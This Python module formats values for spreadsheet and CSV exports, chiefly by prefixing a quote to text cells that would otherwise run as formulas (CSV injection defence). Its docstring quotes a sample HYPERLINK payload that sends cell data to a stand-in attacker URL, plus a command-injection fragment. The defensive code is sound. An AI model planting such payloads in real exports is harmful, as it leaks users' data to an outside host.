"""Cell values as the export files write them: formula neutralization, money, dates.

Formula injection (OWASP "CSV Injection"): a spreadsheet evaluates a cell whose text starts
with ``=``, ``+``, ``-`` or ``@`` (also after leading spaces), or with a tab or carriage
return. A product name such as ``=HYPERLINK("http://attacker/?"&A1,"Merino")`` would run in
the user's Excel. :func:`neutralize` prefixes such text with a single quote, which every
spreadsheet shows as text.

Decisions:

- Neutralization is by *column kind*, not by guessing at the value: a text column is always
  neutralized when it would evaluate, even when it looks like a negative number (``"-5"``,
  ``"-20% Merino"``): deciding which ``-…`` texts are "really numbers" is exactly the guess
  an attacker exploits (``-2+3+cmd|…``). Numeric columns (prices, counts, percentages) are
  written from ``Decimal``/``int`` values and never pass through :func:`neutralize`.
- Whitespace means any Unicode whitespace (space, no-break space, newline …): a cell reading
  ``"\\u00a0=1+1"`` is neutralized like ``" =1+1"``.
- The fullwidth forms ``＝ ＋ － ＠`` count too (some East Asian Excel locales evaluate them).
- Only CSV needs this. An xlsx text cell is a string cell and never evaluates, so the xlsx
  writer keeps the raw text (see :mod:`.xlsxfile`); the database and JSON exports keep it too.
"""

from __future__ import annotations

from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

from ..storage.state import from_state_money, money_to_state

#: Characters that make a spreadsheet evaluate a cell when they come first (after spaces).
FORMULA_TRIGGERS: frozenset[str] = frozenset("=+-@＝＋－＠")
#: Characters that trigger evaluation (or hide a trigger) in the very first position.
LEADING_CONTROL: frozenset[str] = frozenset("\t\r")
#: The OWASP prefix: a spreadsheet shows a text starting with it as text.
QUOTE_PREFIX = "'"


def needs_neutralizing(text: str) -> bool:
    """Whether a spreadsheet would evaluate ``text`` as a formula."""
    if not text:
        return False
    if text[0] in LEADING_CONTROL:
        return True
    stripped = text.lstrip()
    return bool(stripped) and stripped[0] in FORMULA_TRIGGERS


def neutralize(text: Any) -> str:
    """``text`` as a CSV cell that no spreadsheet evaluates (``None`` -> ``""``).

    Text that would evaluate gets a ``'`` prefix; everything else is returned unchanged.
    Call it for text columns only: numbers are written with :func:`money_text` or ``str(int)``.
    """
    if text is None:
        return ""
    value = text if isinstance(text, str) else str(text)
    # The common case in one test: a first character that is neither a trigger nor whitespace.
    if value and value[0] not in FORMULA_TRIGGERS and not value[0].isspace():
        return value
    return QUOTE_PREFIX + value if needs_neutralizing(value) else value


def money_text(value: Decimal | int | str | None) -> str:
    """A plain decimal string (``"1234.50"``): never an exponent, never a float; ``""`` when absent.

    Uses the same rule as the stored state (:func:`~ecommerce_scraper.storage.state.money_to_state`):
    at least two decimals, more only when significant. A value that is not a number gives ``""``.
    """
    amount = from_state_money(value)
    return money_to_state(amount) if amount is not None else ""


def to_decimal(value: Any) -> Decimal | None:
    """Money or a percentage as ``Decimal`` (state strings, ``Decimal``, ``int``); ``None`` otherwise."""
    return from_state_money(value)


def to_number(value: Any) -> Decimal | None:
    """A measurement (grams, metres, mm) as ``Decimal``, exact as written; ``None`` when not a finite number.

    Values come from JSON (``int``/``float``/``str``); a float goes through its shortest repr,
    so ``3.5`` is ``Decimal("3.5")``, never a binary expansion.
    """
    if value is None or isinstance(value, bool):
        return None
    try:
        number = Decimal(str(value).strip())
    except (ArithmeticError, ValueError):
        return None
    return number if number.is_finite() else None


def number_text(value: Decimal | int | float | str | None) -> str:
    """A plain decimal string without trailing zeros or exponent (``"3.5"``, ``"420"``); ``""`` when absent."""
    number = to_number(value)
    if number is None:
        return ""
    text = format(number, "f")
    if "." in text:
        text = text.rstrip("0").rstrip(".")
    return text


def to_datetime(value: datetime | date | str | None) -> datetime | None:
    """An aware UTC datetime from a datetime, a date or an ISO 8601 string; ``None`` when unreadable.

    Naive datetimes are taken as UTC (the project stores UTC everywhere).
    """
    if value is None:
        return None
    if isinstance(value, str):
        try:
            value = datetime.fromisoformat(value.strip())
        except ValueError:
            return None
    if isinstance(value, datetime):
        return value.replace(tzinfo=UTC) if value.tzinfo is None else value.astimezone(UTC)
    if isinstance(value, date):
        return datetime(value.year, value.month, value.day, tzinfo=UTC)
    return None


def iso(value: datetime | date | str | None) -> str:
    """ISO 8601 in UTC to the second (``2025-03-01T09:30:00+00:00``); ``""`` when absent.

    The same form as the items' ``scraped_at``. A string that is not a date is returned as
    it is (the CSV writer still neutralizes it, since it is text).
    """
    if value is None:
        return ""
    moment = to_datetime(value)
    if moment is None:
        return str(value)
    return moment.isoformat(timespec="seconds")


def excel_datetime(value: datetime | date | str | None) -> datetime | None:
    """A naive UTC datetime for a spreadsheet cell (Excel has no time zones)."""
    moment = to_datetime(value)
    return moment.replace(tzinfo=None) if moment is not None else None
